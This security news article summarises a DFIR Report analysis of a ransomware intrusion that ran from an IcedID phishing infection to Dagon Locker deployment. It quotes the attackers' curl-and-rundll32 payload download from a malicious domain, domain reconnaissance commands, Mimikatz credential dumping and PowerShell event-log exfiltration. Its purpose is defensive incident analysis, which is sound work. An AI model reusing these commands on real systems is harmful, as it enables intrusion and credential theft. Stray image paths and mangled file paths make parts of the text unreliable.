Hackers Tool 29 Days from Initial Hack to Sabotage Ransomware Attack

Cybersecurity experts have meticulously traced the timeline of a sophisticated ransomware attack that spanned 29 days from the initial breach to the deployment of Dagon Locker ransomware.

This case study not only illuminates cybercriminals’ efficiency and persistence but also underscores the evolving landscape of cyber threats that organizations face today.

Initial Compromise and Escalation

The attack commenced with the network infiltration via IcedID, a notorious malware initially designed for banking fraud but has since evolved into a versatile tool for broader cybercriminal activities.

The malware was delivered through a deceptive email, deceiving an employee into downloading a malicious JavaScript file.

Once inside the system, IcedID established a foothold by communicating with a command and control server, setting the stage for further malicious activities.

Hackers Tool 29 Days from Initial Hack to Sabotage Ransomware Attack

Is Your Network Under Attack? - Read CISO’s Guide to Avoiding the Next Breach - Download Free Guide

Deployment of Tools

Over the subsequent days, the attackersdeployed various instruments to maintain persistence and move laterally across the network.

Rclone, Netscan, Nbtscan, AnyDesk, Seatbelt, Sharefinder, and AdFind were utilized to scout the network landscape and prepare for the final payload.

This phase was critical as it allowed the attackers to map out the network, identify valuable targets, and strategically plan the ransomware deployment.

This case study provides a detailed analysis of each attack phase based on insights from The DFIR Report.

The attackers initially gained access through the IcedID malware, typically distributed via phishing emails containing malicious attachments or links.

The primary goal during this phase was to establish a foothold within the network without raising alarms.


Following initial access, the malware installed scripts persistently within the host system.

This set the stage for the deployment of further payloads and deeper network penetration.

When the user executed the downloaded Javascript file, Document_Scan_468.js, the following happened:

  • A bat file was created using a curl command to download the IcedID payload from moashraya[.]com.
    • C:WindowsSystem32cmd.exe” /c echo curl https://moashraya[.]com/out/t.php –output “%temp%magni.waut.a” –ssl no-revoke –insecure –location > “%temp%magni.w.bat
  • Execution of the batch script.
    • cmd.exe /c “%temp%magnu.w.bat”
  • After downloading, the file magni.waut.a is renamed to magni.w.
    • cmd.exe /c ren “%temp%magni.waut.a” “magni.w”
  • Using rundll32.exe, it executes the function scab with the arguments k arabika752 from the downloaded and renamed file magni.w.
    • rundll32 “%temp%magni.w”, scab k arabika752

The attackers ensured their continued presence in the network by using sophisticated persistence mechanisms, such as registry modifications andscheduled tasks.

The threat actor created several scheduled tasks on different servers to achieve persistent execution of Cobalt Strike.

As you can see below, the scheduled task files were created by a svchost injected process.

Scheduled task files were created by a svchost injected process.
Scheduled task files were created by a svchost injected process.

This allowed them to maintain control over the compromised systems even in the event of reboots or attempted cleanups.

PrivilegeEscalation

The attackers exploited system vulnerabilities and misconfigurations to gain higher-level privileges.

When the threat actor created the new user account, they added it to a privileged active directory group.privileged active directory group
privileged active directory group

Elevated privileges enabled them to manipulate system processes and access restricted areas of the network.

The attackers employed various techniques to avoid detection, including confusing their malware, disabling security measures, and using legitimate administrativetools.

IcedID injecting itself into svchost.exe
IcedID injecting itself into svchost.exe


Integrate ANY.RUN in Your Company for Effective Malware Analysis

Are you from SOC, Threat Research, or DFIR departments? If so, you can join an online community of 400,000 independent security researchers:

  • Real-time Detection
  • Interactive Malware Analysis
  • Easy to Learn by New Security Team members
  • Get detailed reports with maximum data
  • Set Up Virtual Machine in Linux & all Windows OS Versions
  • Interact with Malware Safely

If you want to test all these features now with completely free access to the sandbox:

These actions helped maintain the secrecy of the attack, allowing it to progress unhindered.Cobalt Strike offers a suite of tools for retrieving hashed credentials from the LSASS (Local Security Authority Subsystem Service) process, including the ‘logonpassword’ command.

This command employs the Mimikatz module ‘sekurlsa::logonpasswords’ to extract credentials directly from system memory.

Sysmon correctly which allows tracking access to the LSASS memory
Sysmon correctly which allows tracking access to the LSASS memory

To effectively monitor and identify such unauthorized activities, it is essential to implement and fine-tune Sysmon, a system monitoring utility.Proper configuration of Sysmon enables monitoring attempts to access LSASS memory, which is a critical step in detecting potential credential theft, as depicted in the accompanying image.

 Access to credentials facilitated unauthorized access to systems and data, increasing the attackers’ control over the network.

Once inside the network, the attackers conducted surveillance to identify valuable assets and data.

During the Execution phase detailed in this report, we observed the IcedID malware injecting into the parent process svchost.exe, which subsequently executed the credential extraction.

This behavior was a critical observation, linking the malware to the unauthorized access of the LSASS process.

ipconfig /all


net config workstation

nltest /domain_trusts

nltest /domain_trusts /all_trusts

net view /all /domain

net view /all

net group "Domain Admins" /domain

 This information guided their subsequent actions and target selection within the compromised environment.

Lateral Movement

The attackers used stolen credentials and tools to move laterally across the network.To facilitate lateral movement across various systems, the threat actor utilized the “jump winrm” feature in Cobalt Strike beacons, which leverages the Windows PowerShell Remoting protocol (MS-PSRP).

This method underscores the sophisticated use of built-in network protocols to expand the attack’s reach.

built-in network protocols to expand the attack's reach.
built-in network protocols to expand the attack’s reach.

Extracted from the memory of a compromised server – shows the processes executed when Cobalt Strike beacons perform this type of lateral movement

The lateral movement allowed them to extend their reach and compromise additional systems.


During the intrusion, the threat actortargeted and accessed multiple files associated with the IT department.

Additionally, they used PowerShell commands executed via a Cobalt Strike beacon to dump and exfiltrate Windows Security event logs from a domain controller.

get-eventlog security

get-eventlog security >> ot.txt

compress-archive -path ot.txt -destinationpath ot.zip

get-eventlog security | Out-String 4096 >> full_string.txt

get-eventlog security | Out-String 8192 >> 8.txt

This data could be used for direct financial gain, further attacks, or ransom negotiations.

Command and Control

During this intrusion, the extended duration and network instability resulted in the absence of some typically available network artifacts, leading to potential gaps in the data.

The command and control traffic for IcedID was detected only during the first two days of the intrusion.

Conversely, Cobalt Strike command and control traffic commenced on the second day and persisted throughout the intrusion.

The analysis of the Cobalt Strike configuration, extracted from a previously mentioned PowerShell script, revealed several tactics employed by the threat actor:

  • They selected gpupdate.exe, a legitimate Windows process, to inject Cobalt Strike shellcode.
  • They utilized the Early Bird APC Queue injection technique to bypass security measures.
  • They attempted to disguise Cobalt Strike traffic as legitimate connections tocloudfront.amazonaws.com.
  • They configured three IP addresses as command and control (C2) servers.

This enabled them to send commands, deploy additional payloads, and exfiltrate data.

Data was exfiltrated to servers controlled by the attackers.

The exfiltration posed significant privacy and security risks, leading to potential data breaches and compliance issues.

The deployment of Dagon Locker ransomware resulted in encrypted files and systems, operational downtime, and financial losses due to ransom demands and recovery costs.

The attack necessitated a comprehensive incident response, including system restoration, strengthening of security postures, and regulatory reporting.


  • Day 1: Entry via IcedID malware.
  • Day 2-10: Establishment of persistence and privilege escalation.
  • Day 11-20: Reconnaissance and lateral movement.
  • Day 21-28: Data collection and staging for ransomware deployment.
  • Day 29: Activation of Dagon Locker ransomware.

This attack exemplifies the rapid and stealthy nature of modern cyber threats.Organizations must enhance their cybersecurity frameworks, adopt proactive threat-hunting practices, and ensure continuous monitoring to defend against such sophisticated attacks.

The detailed breakdown provided by The DFIR Report not only illuminates the specific attack vectors but also serves as a critical learning tool for the cybersecurity community.Cobalt Strike



































Combat Email Threats with Easy-to-Launch Phishing Simulations:Email Security Awareness Training -> Try Free Demo

The post Hackers Tool 29 Days from Initial Hack toSabotage Ransomware Attack appeared first on GBHackers on Security | #1 Globally Trusted Cyber Security NewsPlatform.

Go to Source
Author: Divya